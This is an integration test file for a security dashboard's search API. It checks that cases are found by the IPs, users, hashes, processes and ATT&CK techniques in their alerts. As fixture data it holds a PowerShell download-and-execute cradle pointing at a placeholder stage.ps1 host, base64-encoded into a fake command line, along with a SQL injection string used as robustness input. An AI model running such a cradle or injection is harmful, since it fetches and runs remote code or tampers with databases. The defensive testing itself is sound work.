package io.watchfloor.dashboards.live;

import static io.watchfloor.dashboards.board.Story.ASSET;
import static io.watchfloor.dashboards.board.Story.at;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.watchfloor.dashboards.access.Role;
import io.watchfloor.dashboards.api.ServedBoards;
import io.watchfloor.dashboards.api.Serving;
import io.watchfloor.dashboards.board.Story;
import io.watchfloor.dashboards.board.alert.AlertBoard;
import io.watchfloor.dashboards.wire.json.Json;
import io.watchfloor.ops.alert.Alert;
import io.watchfloor.ops.alert.AlertNames;
import io.watchfloor.ops.alert.AlertRule;
import io.watchfloor.ops.cases.CaseEvent;
import io.watchfloor.sigma.language.Level;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A search finds cases by what their alerts name, whether they are closed or not. */
@ExtendWith(Serving.class)
class SearchIT {

    private static final String SCRIPT =
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/stage.ps1')";
    private static final String ENCODED =
            Base64.getEncoder().encodeToString(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
    private static final String SHA256 = "c0ffee".repeat(10) + "abcd";

    private static ServedBoards center;

    private Story story;
    private String ann;
    private int opened;

    @BeforeAll
    static void serve(ServedBoards served) {
        center = served;
    }

    @BeforeEach
    void startTheStory() {
        story = new Story(center.jdbi());
        ann = center.token("ann", Role.RESPONDER);
    }

    private String caseWith(int number, Map<String, String> fields) {
        Alert named = alert(fields);
        return story.caseOpens(number, 20, named);
    }

    private Alert alert(Map<String, String> fields) {
        String id = "alert-" + ++opened + "-of-" + System.identityHashCode(story);
        Alert alert = new Alert(
                id,
                opened,
                ASSET,
                new AlertRule("rule-" + opened, "Suspicious download " + opened, Level.HIGH, List.of("T1059.001")),
                Alert.Seen.once(at(opened)),
                "r" + opened,
                AlertNames.opened(ASSET, fields),
                null);
        story.raises(alert, "{}");
        return alert;
    }

    @ParameterizedTest
    @CsvSource({
        "203.0.113.66, ip",
        "hxxp://203[.]0[.]113[.]66/stage, url",
        "brandt, user",
        "psexesvc, service",
        "c0ffeec0ffee, hash",
        "evil.exe, process",
        "temp\\evil, process",
        "2001:db8::c2, ip",
        "2001:DB8:0:0:0:0:0:c2, ip",
        "suspicious, title",
        "t1059.001, technique"
    })
    void aClosedCaseIsFoundByWhatItsAlertsName(String word, String type) {
        String id = caseWith(
                12,
                Map.of(
                        "CommandLine",
                        "powershell -enc " + ENCODED,
                        "TargetUserName",
                        "brandt",
                        "ServiceName",
                        "PSEXESVC",
                        "Hashes",
                        "SHA256=" + SHA256,
                        "Image",
                        "C:\\Temp\\evil.exe",
                        "DestinationIp",
                        "2001:db8::c2"));
        story.happens(id, new CaseEvent.Resolved("ann", null, null, at(32)));

        JsonNode hit = only(found(word), "case");
        assertThat(hit.path("id").asText()).isEqualTo(id);
        assertThat(hit.path("work").path("status").asText()).isEqualTo("resolved");
        assertThat(hit.path("found").findValuesAsText("type")).contains(type);
    }

    @Test
    void allWordsMustBeFoundInOneCase() {
        String both = caseWith(1, Map.of("TargetUserName", "brandt", "SourceIp", "192.0.2.9"));
        caseWith(2, Map.of("TargetUserName", "brandt"));
        caseWith(3, Map.of("SourceIp", "192.0.2.9"));
        assertThat(only(found("brandt 192.0.2.9"), "case").path("id").asText()).isEqualTo(both);
        assertThat(found("brandt 192.0.2.77")).isEmpty();
    }

    @Test
    void exactMatchesComeFirstThenOpenCasesThenTheNewest() {
        String older = caseWith(1, Map.of("TargetUserName", "svc"));
        String closed = caseWith(2, Map.of("TargetUserName", "svc"));
        String newer = caseWith(3, Map.of("TargetUserName", "svc"));
        String beginning = caseWith(4, Map.of("TargetUserName", "svcbackup"));
        story.happens(closed, new CaseEvent.Resolved("ann", null, null, at(32)));
        assertThat(ids(found("svc"), "case")).containsExactly(newer, older, closed, beginning);
        assertThat(ids(found("#1"), "case").getFirst()).isEqualTo(older);
        assertThat(hits(found("svc"), "observable").getFirst().path("cases"))
                .extracting(JsonNode::asInt)
                .containsExactly(3, 2, 1);
    }

    @Test
    void anAlertWithoutACaseAnAssetAPersonAndARuleAreFound() {
        Alert alone = alert(Map.of("SourceIp", "192.0.2.50"));
        assertThat(ids(found("192.0.2.50"), "alert")).containsExactly(alone.id());
        assertThat(ids(found(ASSET.substring(ASSET.indexOf(':') + 1)), "asset")).containsExactly(ASSET);
        assertThat(ids(found("ann"), "person")).containsExactly("ann");
        JsonNode rule = Json.parse(center.get(ann, "/api/v1/rules?limit=1").body())
                .path("items")
                .path(0);
        assertThat(ids(found(rule.path("title").asText()), "rule"))
                .contains(rule.path("id").asText());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "?q=", "?q=a", "?q=ab+c", "?q=..", "?q=%00"})
    void aSearchWithoutWordsIsRefused(String query) {
        assertThat(center.get(ann, "/api/v1/search" + query).statusCode()).isEqualTo(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR 1=1 --",
                "%%%aa",
                "a\\u0000b",
                "\uD83D\uDE00\uD83D\uDE00",
                "aa\uDBFF\uDFFF",
                "__",
                "(ab|cd)*"
            })
    void noWordBreaksTheSearch(String word) {
        assertThat(center.get(ann, "/api/v1/search?q=" + encoded(word)).statusCode())
                .isIn(200, 400);
    }

    /** As in the data folder of an older version: the board has alerts that the index does not have. */
    @Test
    void alertsFromBeforeTheIndexAreIndexedAfterAnUpgrade() {
        List<String> ids = new ArrayList<>();
        for (int i = 1; i <= 5; i++) {
            ids.add(caseWith(i, Map.of("SourceIp", "198.51.100." + i)));
        }
        center.jdbi().useTransaction(handle -> {
            handle.execute("TRUNCATE search_alert, search_term, search_value");
            handle.execute("UPDATE search_backlog SET below = (SELECT max(seq) + 1 FROM alert_board)");
            assertThat(AlertBoard.indexOlder(handle, 2)).isTrue();
            assertThat(AlertBoard.indexOlder(handle, 2)).isTrue();
            assertThat(AlertBoard.indexOlder(handle, 2)).isFalse();
            assertThat(AlertBoard.indexOlder(handle, 2)).isFalse();
        });
        for (int i = 1; i <= 5; i++) {
            assertThat(ids(found("198.51.100." + i), "case")).containsExactly(ids.get(i - 1));
        }
    }

    private List<JsonNode> found(String words) {
        List<JsonNode> hits = new ArrayList<>();
        Json.parse(center.get(ann, "/api/v1/search?q=" + encoded(words)).body())
                .path("hits")
                .forEach(hits::add);
        return hits;
    }

    private static String encoded(String words) {
        return URLEncoder.encode(words, StandardCharsets.UTF_8);
    }

    private static List<JsonNode> hits(List<JsonNode> hits, String kind) {
        return hits.stream()
                .filter(hit -> hit.path("kind").asText().equals(kind))
                .toList();
    }

    private static List<String> ids(List<JsonNode> hits, String kind) {
        return hits(hits, kind).stream().map(hit -> hit.path("id").asText()).toList();
    }

    private static JsonNode only(List<JsonNode> hits, String kind) {
        assertThat(hits(hits, kind)).hasSize(1);
        return hits(hits, kind).getFirst();
    }
}
